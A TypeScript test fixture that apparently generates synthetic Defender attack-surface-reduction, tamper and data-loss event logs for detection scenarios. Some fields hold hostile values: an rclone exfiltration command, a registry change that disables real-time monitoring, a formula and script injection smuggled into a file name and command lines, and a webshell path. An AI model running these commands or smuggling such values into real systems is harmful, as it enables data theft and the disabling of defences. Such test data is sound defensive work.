import { attackerTampers, attackGoesOn, macroOpens, macroTriesAgain } from './office-attack.ts'
import { excel, explorer, home, outlook, registry, system } from './paths.ts'
import { policyManager, policyValue, ruleValue, states } from './registry-values.ts'
import { type Mode, type RuleName, ruleIds } from './rules.ts'
import type { Scenario, Step } from './scenario.ts'
import { clients, servers } from './source.ts'

/** The stories of the fleet, the ones a short log must not miss first. */
export const scenarios: readonly Scenario[] = [
  {
    name: 'Office macro attack that goes through, with tampering and a cleared log',
    on: ['workstation', 'laptop'],
    hoursBeforeEnd: [6],
    steps: [...macroOpens(1122), ...attackGoesOn, ...attackerTampers],
  },
  {
    name: 'Office macro attack that is blocked at the child process',
    on: ['workstation', 'laptop'],
    hoursBeforeEnd: [7.4, 29],
    steps: [...macroOpens(1121), ...macroTriesAgain],
  },
  {
    name: 'Office macro attack that goes through, then silence',
    on: ['laptop'],
    hoursBeforeEnd: [101],
    steps: [
      ...macroOpens(1122),
      ...attackGoesOn,
      {
        after: 58,
        code: 5007,
        fields: {
          'Old Value': `${registry}\\DisableRealtimeMonitoring = 0x0`,
          'New Value': `${registry}\\DisableRealtimeMonitoring = 0x1`,
        },
        fallsSilent: true,
      },
    ],
  },
  {
    name: 'A rare tool on one host',
    on: servers,
    hoursBeforeEnd: [17.5],
    steps: [
      {
        after: 0,
        code: 1122,
        rule: 'untrustedExe',
        fields: {
          User: 'CORP\\svc_sql',
          Path: 'C:\\PerfLogs\\rclone.exe',
          'Process Name': 'C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe',
          'Target Commandline': 'rclone.exe copy D:\\Export remote:e --transfers 12 --bwlimit 8M',
          'Parent Commandline':
            '"C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe" -sMSSQLSERVER',
        },
      },
    ],
  },
  {
    name: 'A rule is removed',
    on: clients,
    hoursBeforeEnd: [52],
    steps: [
      {
        after: 0,
        code: 5007,
        fields: { 'Old Value': ruleValue('officeChild', 1), 'New Value': '' },
        sets: [{ rule: 'officeChild', was: 'block', becomes: 'off' }],
      },
    ],
  },
  {
    name: 'Rules are switched off through Policy Manager',
    on: clients,
    hoursBeforeEnd: [20],
    steps: [
      {
        after: 0,
        code: 5007,
        fields: {
          'Old Value': policyValue(['lsass', 1], ['psexecWmi', 2], ['usb', 6]),
          'New Value': policyValue(['lsass', 0], ['psexecWmi', 2], ['usb', 5]),
        },
        sets: [
          { rule: 'lsass', was: 'block', becomes: 'off' },
          { rule: 'usb', was: 'warn', becomes: 'off' },
        ],
      },
      {
        after: 1,
        code: 5007,
        fields: {
          'Old Value': '',
          'New Value': `${policyManager}\\ASROnlyPerRuleExclusions = ${ruleIds.untrustedExe}=C:\\Tools\\*>D:\\Build`,
        },
      },
    ],
  },
  {
    name: 'Helpdesk switches rules from block to audit, off and back',
    on: clients,
    hoursBeforeEnd: [172],
    steps: [
      switchStep(0, 'outlookChild', 'block', 'audit'),
      switchStep(9, 'outlookChild', 'audit', 'off'),
      switchStep(48, 'outlookChild', 'off', 'block'),
    ],
  },
  {
    name: 'A rule is rolled out from audit to block, host by host',
    on: clients,
    hoursBeforeEnd: [295, 294, 293, 292, 291, 290, 289, 288],
    steps: [switchStep(0, 'adobeChild', 'audit', 'block')],
  },
  {
    name: 'A rule is set for the first time',
    on: servers,
    hoursBeforeEnd: [410, 388],
    steps: [{ after: 0, code: 5007, fields: { 'Old Value': '', 'New Value': ruleValue('webshell', 1) } }],
  },
  {
    name: 'Somebody leaves and takes files along',
    on: ['laptop', 'workstation'],
    hoursBeforeEnd: [31],
    steps: [
      leaverStep(0, 1134, 'Audit', 'CopyToRemovableMedia', 'customers.xlsx'),
      leaverStep(3, 1134, 'Audit', 'CopyToRemovableMedia', 'price list.xlsx'),
      leaverStep(8, 1133, 'Block', 'CopyToRemovableMedia', 'board minutes.docx'),
      leaverStep(12, 1133, 'Block', 'UploadToCloud', 'board minutes.docx'),
      deviceStep(15, 1132, 'Audit', 'photos.zip'),
      deviceStep(17, 1131, 'Enforced', 'backup.zip'),
    ],
  },
  {
    name: 'A user allows what was blocked, twice',
    on: clients,
    hoursBeforeEnd: [4.5, 27],
    steps: [
      overrideStep(0, 1121, 'E:\\Setup\\driverpack.exe'),
      overrideStep(1, 1129, 'E:\\Setup\\driverpack.exe'),
      overrideStep(30, 1121, 'E:\\Setup\\driverpack-tools.exe'),
      overrideStep(31, 1129, 'E:\\Setup\\driverpack-tools.exe'),
    ],
  },
  {
    name: 'Spreadsheet formula in a file name',
    on: clients,
    hoursBeforeEnd: [78],
    steps: [
      {
        after: 0,
        code: 1121,
        rule: 'emailContent',
        fields: {
          Path: `${home}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7Q2KX0PD\\=cmd' 'calc'!A0.js`,
          'Process Name': outlook,
          'Target Commandline': '=HYPERLINK("https://update-check.example/?<x>&y","open")',
          'Parent Commandline': `"${excel}" <script>alert('&')</script>`,
        },
      },
    ],
  },
  {
    name: 'Webshell on Exchange',
    on: ['exchange', 'server'],
    hoursBeforeEnd: [55],
    steps: [
      {
        after: 0,
        code: 1121,
        rule: 'webshell',
        fields: {
          User: system,
          Path: 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\4_0_30319\\error7.aspx',
          'Process Name': 'C:\\Windows\\System32\\inetsrv\\w3wp.exe',
          'Parent Commandline': 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "MSExchangeECPAppPool" -v "v4.0"',
        },
      },
    ],
  },
]

function leaverStep(after: number, code: number, level: string, action: string, file: string): Step {
  return {
    after,
    code,
    fields: {
      'Policy Version': '639111495510120544-af2ac94f4525f95dba1c8aeb8ff55f58483c50f4',
      'Policy Rule Id': 'bdf1e9d2-a23f-4536-826f-90fc14da76b6:3b71777d-6417-4e1c-833d-5ee91dded6b2',
      'Enforcement Level': level,
      'Action Type': action,
      Process: 'explorer.exe',
      Source: `\\Device\\HarddiskVolume3\\Users\\{account}\\OneDrive - Example Corp\\Sales\\${file}`,
      Target: `\\Device\\HarddiskVolume13\\${file}`,
    },
  }
}

function deviceStep(after: number, code: number, state: string, file: string): Step {
  return {
    after,
    code,
    fields: {
      ID: '6d2c0b58-3f4e-4c6f-8a67-1e1f7a8c9b01',
      State: state,
      Action: 'Write',
      Process: explorer,
      Source: `\\Device\\HarddiskVolume3\\Users\\{account}\\Pictures\\${file}`,
      Target: `\\Device\\HarddiskVolume13\\${file}`,
    },
  }
}

function overrideStep(after: number, code: number, path: string): Step {
  return {
    after,
    code,
    rule: 'usb',
    fields: {
      Path: path,
      'Process Name': explorer,
      'Target Commandline': `"${path}" `,
      'Parent Commandline': 'C:\\Windows\\Explorer.EXE',
    },
  }
}

function switchStep(after: number, rule: RuleName, was: Mode, becomes: Mode): Step {
  const fields = { 'Old Value': ruleValue(rule, states[was]), 'New Value': ruleValue(rule, states[becomes]) }
  return { after, code: 5007, fields, sets: [{ rule, was, becomes }] }
}
